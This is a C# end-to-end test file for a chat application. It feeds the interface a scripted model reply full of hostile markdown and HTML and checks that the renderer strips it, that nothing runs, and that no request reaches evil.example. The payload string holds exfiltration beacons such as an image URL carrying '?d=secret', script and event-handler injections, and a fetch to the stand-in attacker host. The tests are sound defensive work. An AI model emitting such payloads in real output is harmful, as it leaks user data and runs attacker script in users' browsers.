namespace LaunchReady.EndToEnd;

/// <summary>What a reply must not be able to do by being drawn: ask another host for something, run, or lead away unseen.</summary>
public sealed class HostileReplies(Chromium chromium, ScriptedSite site) : Journey(chromium), IClassFixture<ScriptedSite>
{
    private const string Hostile = """
        Here is ![the chart](https://evil.example/a.png?d=secret) and ![][pixel] and [a link](https://evil.example/b).

        [run me](javascript:window.struck=1) <javascript:window.struck=2> <https://evil.example/c>

        <img src="https://evil.example/d.png" onerror="window.struck=3">
        <svg onload="window.struck=4"><image href="https://evil.example/e.svg"/></svg>
        <style>body { background: url(https://evil.example/f.png) }</style>
        <div style="background:url(https://evil.example/g.png)" onclick="window.struck=5">text</div>
        <script>window.struck=6; fetch('https://evil.example/h')</script>
        <iframe src="https://evil.example/i"></iframe><link rel="prefetch" href="https://evil.example/j">
        <meta http-equiv="refresh" content="0;url=https://evil.example/k">

        [other](//evil.example/l) [slashes](/\evil.example/m) [data](data:text/html,<script>window.struck=7</script>)

        | a | b |
        |--:|:-:|
        | ![](https://evil.example/n.png) | <img src=x onerror=window.struck=8> |

        The end.

        [pixel]: https://evil.example/o.png
        """;

    [Fact]
    public async Task Nothing_is_asked_for_and_nothing_runs_while_it_streams_or_after_a_reload()
    {
        site.Model.Next(reply => reply.SayAsync(Hostile));
        var window = await OpenAsync(site.Server, site.Owner);
        await window.GoAsync($"/w/{Site.Workspace}/new");
        await window.AskAsync("Show me the chart.");
        await Expect(window.LastTurn).ToHaveAttributeAsync("data-state", "done");
        await MustBeHarmlessAsync(window);
        await window.Page.ReloadAsync();
        await MustBeHarmlessAsync(window);
        Assert.DoesNotContain(window.Requests, address => address.Contains("evil.example", StringComparison.Ordinal));
    }

    [Fact]
    public async Task A_question_is_shown_as_the_text_it_is()
    {
        site.Model.Next(reply => reply.SayAsync("Understood."));
        var window = await OpenAsync(site.Server, site.Owner);
        await window.GoAsync($"/w/{Site.Workspace}/new");
        await window.AskAsync("<img src=x onerror=window.struck=1>");
        await Expect(window.LastTurn).ToHaveAttributeAsync("data-state", "done");
        await Expect(window.Page.Locator(".message-text").First).ToHaveTextAsync("<img src=x onerror=window.struck=1>");
        await Expect(window.Page).ToHaveTitleAsync(new System.Text.RegularExpressions.Regex("^<img src=x"));
        Assert.False(await window.Page.EvaluateAsync<bool>("() => 'struck' in window"));
    }

    private static async Task MustBeHarmlessAsync(Window window)
    {
        var answer = window.LastTurn.Locator(".markdown");
        await Expect(answer).ToContainTextAsync("The end.");
        await Expect(answer).ToContainTextAsync("link to evil[.]example removed");
        await Expect(answer.Locator("img, svg, style, script, iframe, link, meta, [style], [onclick], [onerror], [onload]")).ToHaveCountAsync(0);
        await Expect(answer.Locator("a[href]:not([href^='/'])")).ToHaveCountAsync(0);
        await Expect(answer.Locator("a[href^='//'], a[href^='/\\\\\\\\']")).ToHaveCountAsync(0);
        Assert.False(await window.Page.EvaluateAsync<bool>("() => 'struck' in window"));
    }
}
